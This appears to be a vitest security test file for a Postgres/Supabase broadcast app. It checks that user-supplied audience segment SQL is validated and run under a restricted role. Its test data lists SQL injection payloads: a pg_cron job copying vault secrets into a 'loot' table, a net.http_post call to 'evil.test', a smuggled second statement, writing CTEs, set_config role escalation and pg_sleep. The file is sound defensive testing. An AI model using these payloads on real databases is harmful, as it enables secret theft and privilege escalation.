import { readFile } from 'node:fs/promises'
import { fileURLToPath } from 'node:url'
import { beforeEach, describe, expect, it } from 'vitest'
import { handOverUpcomingBroadcast } from '../../src/shared/broadcasts/hand-over.ts'
import type { Sql } from '../../src/shared/db/client.ts'
import { SECRET_KEY } from '../support/app.ts'
import { resetDatabase, setVaultSecrets, useTestDatabase } from '../support/database.ts'
import {
  broadcastRows,
  createAuthor,
  createAuthors,
  createBroadcast,
  createSegment,
  linkSegment,
  queuedFirstMessages,
} from '../support/factories/broadcasts.ts'
import { createLabel, labelPhone } from '../support/factories/campaigns.ts'

// Segment SQL contained (issue 10 §3, docs/security.md): audience_segments.query runs as
// audience_segment_reader, is validated when written, and a bad one fails its broadcast whole.

const db = useTestDatabase()

beforeEach(async () => {
  await resetDatabase(db.sql)
  await setVaultSecrets(db.sql, { edgeFunctionUrl: 'http://edge.test/functions/v1/', secretKey: SECRET_KEY })
})

const CRON_ATTACK =
  `SELECT cron.schedule('loot', '* * * * *', 'CREATE TABLE public.loot AS SELECT * FROM vault.decrypted_secrets')::text AS phone_number`

/** The attacks the issue lists, and the ways around a naive check. */
const ATTACKS: Array<[string, string, RegExp]> = [
  ['pg_cron', CRON_ATTACK, /permission denied for schema cron/],
  [
    'vault',
    'SELECT s.decrypted_secret AS phone_number FROM vault.decrypted_secrets s',
    /permission denied for schema vault/,
  ],
  ['pg_net', `SELECT net.http_post('http://evil.test/')::text AS phone_number`, /permission denied for schema net/],
  [
    'UPDATE',
    `UPDATE public.broadcasts SET first_message = 'pwned' RETURNING 'x'::text AS phone_number`,
    /single SELECT/,
  ],
  [
    'a writing WITH',
    `WITH w AS (UPDATE public.broadcasts SET first_message = 'pwned' RETURNING 1) SELECT a.phone_number FROM public.authors a`,
    /must not write/,
  ],
  [
    'a second statement behind balanced parentheses',
    `SELECT a.phone_number FROM public.authors a) AS x; SELECT lo_create(0)::text AS phone_number; SELECT * FROM (SELECT 'x'::text AS phone_number`,
    /single statement/,
  ],
  ['pg_sleep(600)', 'SELECT a.phone_number FROM public.authors a WHERE pg_sleep(600) IS NOT NULL', /pg_sleep/],
  ['set_config', `SELECT set_config('role', 'postgres', true) AS phone_number`, /set_config/],
  ['query_to_xml', `SELECT query_to_xml('SELECT 1', true, true, '')::text AS phone_number`, /query_to_xml/],
  ['a table segments do not read', 'SELECT b.first_message AS phone_number FROM public.broadcasts b', /broadcasts/],
  [
    'a public function',
    "SELECT p.phone_number FROM public.campaign_recipient_phones('{}'::jsonb) p",
    /campaign_recipient_phones/,
  ],
]

/** Everything an attack could have changed. */
async function sideEffects(sql: Sql) {
  return {
    cronJobs: (await sql`SELECT jobname FROM cron.job ORDER BY jobid`).map((row) => row.jobname),
    netRequests: (await sql`SELECT url FROM net.http_request_queue ORDER BY id`).map((row) => row.url),
    broadcasts: await sql`SELECT id, first_message FROM public.broadcasts ORDER BY id`,
    loot: (await sql`SELECT to_regclass('public.loot') AS loot`)[0].loot,
    queued: (await queuedFirstMessages(sql)).length,
    largeObjects: (await sql`SELECT count(*)::int AS count FROM pg_largeobject_metadata`)[0].count,
  }
}

/** Saves a segment without the write-time check, as one saved before this migration would be. */
async function legacySegment(sql: Sql, name: string, query: string, broadcastId: number): Promise<number> {
  return await sql.begin(async (tx) => {
    await tx`ALTER TABLE public.audience_segments DISABLE TRIGGER audience_segments_check_query`
    const id = await createSegment(tx, { name, query, broadcastId })
    await tx`ALTER TABLE public.audience_segments ENABLE TRIGGER audience_segments_check_query`
    return id
  })
}

describe('audience segment queries are checked when written', () => {
  for (const [what, query, reason] of ATTACKS) {
    it(`rejects ${what}, with a clear message and no side effect`, async () => {
      const { sql } = db
      await createAuthors(sql, 2)
      const broadcast = await createBroadcast(sql, { editable: true, firstMessage: 'Hello' })
      const before = await sideEffects(sql)
      const insert = createSegment(sql, { name: what, query, broadcastId: broadcast.id })
      await expect(insert).rejects.toThrow(/audience segment query rejected/)
      await expect(insert).rejects.toThrow(reason)
      // An UPDATE of an existing segment is checked as well.
      const id = await createSegment(sql, { name: 'fine' })
      await expect(sql`UPDATE public.audience_segments SET query = ${query} WHERE id = ${id}`).rejects.toThrow(reason)
      expect(await sideEffects(sql)).toEqual(before)
    })
  }

  it('rejects what does not return exactly one text column phone_number', async () => {
    const { sql } = db
    for (
      const [query, returns] of [
        ['SELECT a.phone_number, a.name FROM public.authors a', 'phone_number text, name text'],
        ['SELECT 1 AS phone_number', 'phone_number integer'],
        ['SELECT a.name FROM public.authors a', 'name text'],
      ]
    ) {
      await expect(createSegment(sql, { query }), query).rejects.toThrow(
        `it must return exactly one column, phone_number of type text (it returns: ${returns})`,
      )
    }
    await expect(createSegment(sql, { query: 'SELECT phone_number FROM authors' })).rejects.toThrow(
      /relation "authors" does not exist; names must be schema-qualified/,
    )
    await expect(createSegment(sql, { query: '  ' })).rejects.toThrow(/audience segment query is empty/)
  })

  it('accepts upstream-style queries: trailing semicolons and comments, ORDER BY random(), CTEs, joins', async () => {
    const { sql } = db
    for (
      const query of [
        'SELECT a.phone_number FROM public.authors a ORDER BY random();',
        'SELECT a.phone_number FROM public.authors a ORDER BY RANDOM() -- everyone',
        `WITH recent AS (SELECT ca.author_phone_number FROM public.conversations_authors ca)
         SELECT r.author_phone_number AS phone_number FROM recent r`,
        `SELECT DISTINCT ca.author_phone_number AS phone_number
         FROM public.conversations_labels cl
         JOIN public.labels l ON l.id = cl.label_id
         JOIN public.conversations c ON c.id = cl.conversation_id
         JOIN public.conversations_authors ca ON ca.conversation_id = cl.conversation_id
         WHERE l.name = 'Renters' AND NOT cl.is_archived AND cl.created_at > now() - interval '90 days'`,
      ]
    ) await expect(createSegment(sql, { query }), query).resolves.toEqual(expect.any(Number))
  })
})

describe('audience segment queries run as audience_segment_reader', () => {
  it('the executing role is the restricted one', async () => {
    const { sql } = db
    const [row] =
      await sql`SELECT array(SELECT public.audience_segment_phones('SELECT current_user::text AS phone_number')) AS who`
    expect(row.who).toEqual(['audience_segment_reader'])
  })

  it('the role itself can read what segments read and nothing else', async () => {
    const { sql } = db
    await createAuthors(sql, 2)
    const asReader = (statement: string) =>
      sql.begin(async (tx) => {
        await tx`SET LOCAL ROLE audience_segment_reader`
        return await tx.unsafe(statement)
      })
    for (const table of ['authors', 'labels', 'conversations', 'conversations_authors', 'conversations_labels']) {
      await expect(asReader(`SELECT count(*) FROM public.${table}`), table).resolves.toBeDefined()
    }
    const [{ count }] = await asReader('SELECT count(*)::int AS count FROM public.authors')
    expect(count).toBe(2) // its policy lets it see the rows, not just the table
    for (
      const [statement, refusal] of [
        ["SELECT cron.schedule('x', '* * * * *', 'SELECT 1')", /permission denied for schema cron/],
        ['SELECT * FROM vault.decrypted_secrets', /permission denied for schema vault/],
        ["SELECT net.http_post('http://evil.test/')", /permission denied for schema net/],
        ["UPDATE public.authors SET name = 'x'", /permission denied for table authors/],
        ["INSERT INTO public.labels (name) VALUES ('x')", /permission denied for table labels/],
        ['SELECT * FROM public.broadcasts', /permission denied for table broadcasts/],
        ['SELECT * FROM public.audience_segments', /permission denied for table audience_segments/],
        ['SELECT public.queue_broadcast_messages(1)', /permission denied for function queue_broadcast_messages/],
        ['SELECT * FROM pgmq.q_broadcast_first_messages', /permission denied for schema pgmq/],
      ] as const
    ) await expect(asReader(statement), statement).rejects.toThrow(refusal)
  })
})

describe('a bad segment at send time fails its broadcast whole', () => {
  // Segments saved before the write-time check existed are checked again when they run.
  for (const [what, query] of ATTACKS) {
    it(`${what}: the broadcast fails naming the segment; nothing queued, nothing else happens`, async () => {
      const { sql } = db
      await createAuthors(sql, 3)
      const broadcast = await createBroadcast(sql, { editable: true, noUsers: 10, firstMessage: 'Hello' })
      await createSegment(sql, { name: 'ok', broadcastId: broadcast.id, ratio: 50 })
      const bad = await legacySegment(sql, 'bad', query, broadcast.id)
      const before = await sideEffects(sql)
      const started = Date.now()
      await expect(sql`SELECT public.queue_broadcast_messages(${broadcast.id})`).rejects.toThrow(
        new RegExp(
          `broadcast ${broadcast.id}: audience segment ${bad} \\(bad\\) failed: audience segment query rejected`,
        ),
      )
      expect(Date.now() - started).toBeLessThan(5_000) // pg_sleep(600) never ran
      expect(await sideEffects(sql)).toEqual(before)
    })
  }

  it('a query that fails while running fails the hand-over: nothing queued, the broadcast stays editable', async () => {
    const { sql } = db
    await createAuthors(sql, 3)
    const broadcast = await createBroadcast(sql, { editable: true, noUsers: 10 })
    await createSegment(sql, { name: 'ok', broadcastId: broadcast.id, ratio: 50 })
    const broken = await createSegment(sql, {
      name: 'broken',
      broadcastId: broadcast.id,
      ratio: 50,
      // Valid when written; divides by zero only once it runs.
      query: 'SELECT (1 / (count(*) - count(*)))::text AS phone_number FROM public.authors',
    })
    await expect(handOverUpcomingBroadcast(sql, { now: new Date() })).rejects.toThrow(
      `broadcast ${broadcast.id}: audience segment ${broken} (broken) failed: division by zero`,
    )
    expect(await broadcastRows(sql)).toEqual([expect.objectContaining({ id: broadcast.id, editable: true })])
    expect(await queuedFirstMessages(sql)).toHaveLength(0)
  })

  it('a query that runs too long is cancelled by the hand-over timeout, naming the segment; nothing queued', async () => {
    const { sql } = db
    await createAuthors(sql, 3)
    const broadcast = await createBroadcast(sql, { editable: true, noUsers: 10 })
    await createSegment(sql, { name: 'ok', broadcastId: broadcast.id, ratio: 50 })
    const slow = await createSegment(sql, {
      name: 'slow',
      broadcastId: broadcast.id,
      ratio: 50,
      query: 'SELECT a.phone_number FROM public.authors a CROSS JOIN generate_series(1, 100000000) AS g',
    })
    const started = Date.now()
    const handOver = handOverUpcomingBroadcast(sql, { now: new Date(), audienceTimeoutMs: 300 })
    await expect(handOver).rejects.toThrow(
      `broadcast ${broadcast.id}: audience segment ${slow} (slow) did not finish in time: canceling statement due to statement timeout`,
    )
    await expect(handOver).rejects.toMatchObject({ code: '57014' })
    expect(Date.now() - started).toBeLessThan(10_000)
    expect(await broadcastRows(sql)).toEqual([expect.objectContaining({ id: broadcast.id, editable: true })])
    expect(await queuedFirstMessages(sql)).toHaveLength(0)
    // The timeout was the hand-over's, not the session's: the pool's connections are unlimited again.
    const [{ timeout }] = await sql`SELECT current_setting('statement_timeout') AS timeout`
    expect(timeout).toBe('0')
  })
})

describe('legitimate segments select the same recipients as before', () => {
  /** Runs the query the way upstream did (as the owner) and the contained way; compares the sets. */
  async function bothWays(sql: Sql, query: string) {
    const direct = (await sql.unsafe(query.replace(/;\s*$/, ''))).map((row) => row.phone_number as string)
    const [{ contained }] = await sql`SELECT array(SELECT public.audience_segment_phones(${query})) AS contained`
    return { direct: [...direct].sort(), contained: [...(contained as string[])].sort() }
  }

  it("upstream's seed segments, label segments and supabase/seed.sql's segments", async () => {
    const { sql } = db
    const phones = await createAuthors(sql, 5)
    await createAuthor(sql, { unsubscribed: true })
    const renters = await createLabel(sql, { name: 'Renters' })
    await labelPhone(sql, renters.id, phones[0])
    await labelPhone(sql, renters.id, phones[1])
    await labelPhone(sql, renters.id, phones[2], { archived: true })
    const seed = await readFile(fileURLToPath(new URL('../../supabase/seed.sql', import.meta.url)), 'utf8')
    await sql.unsafe(seed)
    const seeded = await sql`SELECT name, query FROM public.audience_segments ORDER BY id`
    expect(seeded.map((row) => row.name)).toEqual(['Sandbox everyone', 'Inactive'])

    const queries = [
      // upstream's supabase/seed.sql (segments 1 and 2)
      'SELECT a.phone_number FROM public.authors a ORDER BY random()',
      'SELECT a.phone_number FROM public.authors a ORDER BY RANDOM()',
      // a label segment
      `SELECT DISTINCT ca.author_phone_number AS phone_number
       FROM public.conversations_labels cl
       JOIN public.labels l ON l.id = cl.label_id
       JOIN public.conversations_authors ca ON ca.conversation_id = cl.conversation_id
       WHERE l.name = 'Renters' AND NOT cl.is_archived`,
      ...seeded.map((row) => row.query as string),
    ]
    for (const query of queries) {
      const { direct, contained } = await bothWays(sql, query)
      expect(contained, query).toEqual(direct)
      expect(contained.length, query).toBeGreaterThan(0)
    }
    const label = await bothWays(sql, queries[2])
    expect(label.contained).toEqual([phones[0], phones[1]].sort())
  })

  it('a broadcast over a label segment queues exactly its labelled, subscribed authors', async () => {
    const { sql } = db
    const phones = await createAuthors(sql, 4)
    const optedOut = await createAuthor(sql, { unsubscribed: true })
    const renters = await createLabel(sql, { name: 'Renters' })
    for (const phone of [phones[0], phones[2], optedOut]) await labelPhone(sql, renters.id, phone)
    const broadcast = await createBroadcast(sql, { editable: true, noUsers: 10 })
    const segment = await createSegment(sql, {
      name: 'Renters',
      query: `SELECT ca.author_phone_number AS phone_number
              FROM public.conversations_labels cl
              JOIN public.labels l ON l.id = cl.label_id
              JOIN public.conversations_authors ca ON ca.conversation_id = cl.conversation_id
              WHERE l.name = 'Renters';`,
    })
    await linkSegment(sql, broadcast.id, segment)
    const [{ queued }] = await sql`SELECT public.queue_broadcast_messages(${broadcast.id}) AS queued`
    expect(queued).toBe(2)
    const queuedPhones = (await queuedFirstMessages(sql)).map((row) => row.message.recipient_phone_number).sort()
    expect(queuedPhones).toEqual([phones[0], phones[2]].sort())
  })
})
